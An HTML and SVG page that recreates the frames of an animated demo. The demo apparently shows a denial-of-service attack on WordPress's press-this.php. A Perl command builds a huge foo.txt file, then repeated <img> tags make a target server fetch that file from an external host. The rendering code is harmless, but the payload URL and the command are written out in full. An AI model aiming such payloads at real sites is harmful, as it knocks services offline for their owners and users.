
These frames come from a looping animation (569 px wide and 375 px high, 8 s). An HTML page:

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal and editor</title>
<style>
  html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #fff; }
  svg { display: block; width: 569px; height: 375px; }
  text { white-space: pre; text-rendering: geometricPrecision; }
  .mono { font: 12px "DejaVu Sans Mono", monospace; letter-spacing: -.224px; stroke: currentColor; stroke-width: .15px; }
  .title { font: 13px Inter, "Liberation Sans", sans-serif; text-anchor: middle; }
  .page { font: italic 12.8px "Liberation Sans", Arial, sans-serif; }
  .tag { fill: #0000ff; }
  .attr { fill: #a0522d; }
</style>
</head>
<body>
<svg viewBox="0 0 569 375">
  <defs>
    <linearGradient id="bar" x2="0" y2="1">
      <stop offset="0" stop-color="#e9e7e9"/>
      <stop offset="1" stop-color="#d0ced0"/>
    </linearGradient>
    <linearGradient id="shade" x2="0" y2="1">
      <stop offset="0" stop-color="#9c9c9c"/>
      <stop offset="1" stop-color="#b9b9b9"/>
    </linearGradient>
    <path id="arrow" d="M0 0V14.5L3.4 11.4L5.7 16.7L8.2 15.6L5.9 10.5H10.5Z"
          fill="#000" stroke="#fff" stroke-width=".9"/>
  </defs>

  <g id="terminal">
    <rect width="569" height="30" fill="#e6e6e6"/>
    <rect id="strip" y="360" width="569" height="15"/>
    <text class="page" x="0" y="380.5">/press-this.php?u=http%3A%2F%2F&lt;external server&gt;%2Ffoo.txt&amp;url-scan-submit=Scan&amp;a=b</text>
    <path d="M0 28H569V367Q569 371 565 371H4Q0 371 0 367Z" fill="#fefefe"/>
    <path id="titlebar" d="M0 28V10Q0 5 5 5H564Q569 5 569 10V28Z"/>
    <path id="barLine" d="M0 27.5H569"/>
    <g id="lights"></g>
    <g id="house">
      <path d="M2.5 7V13.2H12.5V7L7.5 2Z" fill="#efe3cd" stroke="#a89272" stroke-width=".7"/>
      <path d="M10 1.3H12V5H10Z" fill="#a35b43"/>
      <path d="M.5 7.6L7.5 1L14.5 7.6" fill="none" stroke="#8d7355" stroke-width="1.6"/>
      <path d="M4 8H6.7V13.2H4Z" fill="#9b6034"/>
      <path d="M8.3 8H11V10.6H8.3Z" fill="#7fa3bd"/>
    </g>
    <text id="title" class="title" x="292" y="21"></text>
    <g id="shell" class="mono"></g>
    <path id="marks" d="M4 46.5H1.5V55.5H4M564.5 46.5H566.5V55.5H564.5" fill="none" stroke="#a8a8a8"/>
    <rect id="block" width="7" height="14"/>
    <g id="beam" fill="none">
      <path d="M-3 -7.5Q0 -7.5 0 -5.5Q0 -7.5 3 -7.5M0 -6V6M-3 7.5Q0 7.5 0 5.5Q0 7.5 3 7.5M-1.5 3H1.5" stroke="#fff" stroke-width="2.4"/>
      <path d="M-3 -7.5Q0 -7.5 0 -5.5Q0 -7.5 3 -7.5M0 -6V6M-3 7.5Q0 7.5 0 5.5Q0 7.5 3 7.5M-1.5 3H1.5" stroke="#111" stroke-width="1.2"/>
    </g>
    <use id="pointer" href="#arrow" x="453.5" y="362.5"/>
  </g>

  <g id="editor">
    <rect width="569" height="375" fill="#fefefe"/>
    <rect width="569" height="15" fill="#d6d6d6"/>
    <path d="M0 15.5H569" stroke="#b4b4b4"/>
    <g stroke="#222" stroke-width="1.2" fill="none">
      <path d="M9 -2V6H28V-2" fill="#fff"/>
      <path d="M40 -2V3.5H55L61 -2" fill="#b9bd96"/>
      <path d="M72 -2V6.5H94V-2" fill="#76805f"/>
      <path d="M77 0H89V4H77Z" fill="#a8b08c" stroke="#555e43"/>
      <path d="M108 3L111.5 -1M118 3L114.5 -1" stroke-width="1.8"/>
      <path d="M137 -2V6H156V-2" fill="#7891ab"/>
      <path d="M141 6V1H152V6" fill="#e4e8ec"/>
      <path d="M179 5L182 2L186 -2" stroke="#333" stroke-width="2"/>
      <path d="M180.5 3.5L186 -2" stroke="#d6b23c"/>
      <circle cx="206.5" cy="3" r="2.5" stroke="#666"/>
      <circle cx="214.5" cy="3" r="2.5" stroke="#666"/>
      <path d="M208 1L211 -2M213 1L210 -2" stroke="#666"/>
      <path d="M232 -2V3H245V-2" fill="#eee" stroke="#999"/>
      <path d="M240 -2V6H253V-2M243 1.5H250M243 3.5H250" fill="#f4f4f4" stroke="#999"/>
      <path d="M264 -2V5.5H280V-2" fill="#b59a61"/>
      <path d="M271 -2V6.5H285V-2" fill="#fff"/>
      <path d="M274 1.5H282M274 3.8H280" stroke="#888"/>
      <path d="M298 -2V6.5H317V-2" fill="#fff"/>
      <circle cx="306" cy="0" r="3.4" fill="#cfd8dd"/>
      <path d="M308.5 2.5L313 5.5" stroke-width="2"/>
    </g>
    <g id="lines" class="mono"></g>
    <rect id="point" width="7" height="14"/>
    <use href="#arrow" x="22.5" y="51.5"/>
  </g>
</svg>
<script>
const LOOP = 8000, CELL = 7, ROW = 14;
const TYPED = 140, ENTER = 890, DONE = 1030, BLUR = 3580, EDIT = 3720;
const newlines = [4170, 5070, 5660, 6860, 7460];
const pastes = [4770, 5510, 6260, 7160, 7900];
const beamStops = [[0, 218, 59], [1480, 312.5, 124], [1630, 419.5, 220], [1930, 451.5, 350]];
const POINTER_IN = 2080, POINTER_OUT = 2220;

const user = "Monica";
const prompt = `learners-LTP-4:~ ${user}$ `;
const command = `perl -e 'print "<>"x28000000' > foo.txt`;

const $ = id => document.getElementById(id);
const show = (el, on) => el.setAttribute("display", on ? "inline" : "none");
const set = (el, attrs) => { for (const k in attrs) el.setAttribute(k, attrs[k]); };

function add(parent, name, attrs, text) {
  const el = document.createElementNS("http://www.w3.org/2000/svg", name);
  set(el, attrs);
  if (text) el.textContent = text;
  return parent.appendChild(el);
}

// Each run is [text, class].
function addRuns(parent, x, y, runs) {
  const line = add(parent, "text", { x, y });
  for (const [text, kind] of runs) add(line, "tspan", { class: kind || "" }, text);
}

const lights = ["#ff5f57", "#ffbd2e", "#28c940"].map((color, i) =>
  [add($("lights"), "circle", { cx: 12.8 + 20.1 * i, cy: 16, r: 5.8, "stroke-width": .7 }), color]);

const shellRows = [0, 1, 2].map(i => add($("shell"), "text", { x: 4, y: 41 + i * ROW }));
shellRows[0].textContent = "Last login: Wed Mar 28 11:37:01 on ttys000";

const pairs = Array.from({ length: 8 }, (_, i) => {
  const y = 29 + i * 2 * ROW;
  const g = add($("lines"), "g", {});
  addRuns(g, 9, y, [["<"], ["img", "tag"], [" "], ["src", "attr"],
    ["='http://192.168.33.10/wp-admin/press-this.php?u=http%3A%2F%2F216.197.76"]]);
  addRuns(g, 9, y + ROW, [[".78%2Ffoo.txt"], ["&url-scan-submit", "attr"], ["=Scan"], ["&a", "attr"], ["=b'>"]]);
  add(g, "path", {
    d: `M7 ${y + 7.5}H4Q2 ${y + 7.5} 2 ${y + 9.5}Q2 ${y + 11.5} 5 ${y + 11.5}M4.5 ${y + 9.5}L7 ${y + 11.8}L4.5 ${y + 14}Z`,
    fill: "#000", stroke: "#000", "stroke-width": 1.3
  });
  return g;
});

let shownTitle = "";
function setTitle(job) {
  const text = `${user} — ${job} — 80×24`;
  if (text === shownTitle) return;
  shownTitle = text;
  $("title").textContent = text;
  const left = 292 - $("title").getComputedTextLength() / 2 - 19.5;
  set($("house"), { transform: `translate(${left} 9.5)` });
}

function drawTerminal(t) {
  const active = t < BLUR, running = t >= ENTER && t < DONE;
  setTitle(running ? 'perl -e print "<>"x28000000' : "-bash");
  set($("title"), { fill: active ? "#414141" : "#a6a6a6" });
  set($("house"), { opacity: active ? 1 : .5 });
  set($("titlebar"), { fill: active ? "url(#bar)" : "#f6f6f6" });
  set($("barLine"), { stroke: active ? "#a9a7a9" : "#c4c4c4" });
  set($("strip"), { fill: active ? "url(#shade)" : "#d2d2d2" });
  for (const [dot, color] of lights)
    set(dot, { fill: active ? color : "#dcdcdc", stroke: active ? "rgba(0,0,0,.15)" : "#c6c6c6" });

  shellRows[1].textContent = prompt + (t >= TYPED ? command : "");
  shellRows[2].textContent = t >= DONE ? prompt : "";
  show($("marks"), t >= ENTER);

  const col = running ? 0 : prompt.length + (t >= TYPED && t < ENTER ? command.length : 0);
  const inset = active ? 0 : .5;
  set($("block"), {
    x: 4 + col * CELL + inset, y: (t >= ENTER ? 58 : 44) + inset,
    width: CELL - 2 * inset, height: ROW - 2 * inset,
    fill: active ? "#929292" : "none", stroke: active ? "none" : "#929292"
  });

  const stop = beamStops.filter(s => t >= s[0]).pop();
  set($("beam"), { transform: `translate(${stop[1]} ${stop[2]})` });
  show($("beam"), t < POINTER_IN);
  show($("pointer"), t >= POINTER_IN && t < POINTER_OUT);
}

function drawEditor(t) {
  const passed = times => times.filter(at => t >= at).length;
  const count = 3 + passed(pastes);
  const fresh = passed(newlines) > passed(pastes);
  pairs.forEach((g, i) => show(g, i < count));
  set($("point"), {
    x: fresh ? 9 : 9 + 40 * CELL,
    y: 18 + (2 * count - (fresh ? 0 : 1)) * ROW
  });
}

function draw(t) {
  const editing = t >= EDIT;
  show($("terminal"), !editing);
  show($("editor"), editing);
  if (editing) drawEditor(t); else drawTerminal(t);
}

const start = performance.now();
function tick() {
  draw((performance.now() - start) % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
